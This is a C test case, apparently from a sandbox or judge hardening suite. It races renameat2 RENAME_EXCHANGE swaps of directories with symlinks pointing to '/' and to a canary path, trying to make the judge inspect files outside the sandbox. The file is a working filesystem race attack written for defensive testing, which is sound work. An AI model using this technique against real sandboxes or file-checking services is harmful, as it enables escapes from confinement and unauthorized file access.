// Tries: exchanges directories for links that lead outside, over and over, while the judge's side looks into them
// Control: no, outside there is nobody who looks
// Limits: cpu=2s
#include "attack.h"
#include <fcntl.h>
#include <pthread.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>

static const char *target;

static void *exchange(void *argument)
{
    char directory[32], link[32];
    snprintf(directory, sizeof directory, "d%ld", (long)argument);
    snprintf(link, sizeof link, "l%ld", (long)argument);
    for (;;)
        syscall(SYS_renameat2, AT_FDCWD, directory, AT_FDCWD, link, 2 /* RENAME_EXCHANGE */);
    return NULL;
}

int main(void)
{
    char name[64];
    target = canary("world");
    for (long i = 0; i < 3; i++) {
        snprintf(name, sizeof name, "d%ld", i);
        mkdir(name, 0700);
        snprintf(name, sizeof name, "d%ld/in", i);
        mkdir(name, 0700);
        snprintf(name, sizeof name, "l%ld", i);
        if (symlink(i == 0 ? "/" : target, name) < 0)
            refused("symlink");
    }
    for (long i = 0; i < 3; i++) {
        pthread_t thread;
        if (pthread_create(&thread, NULL, exchange, (void *)i) != 0)
            refused("pthread_create");
    }
    nanosleep(&(struct timespec){0, 250000000}, NULL);
    held("exchanged for a quarter of a second");
    _exit(0); /* the last exchange may be half done */
}
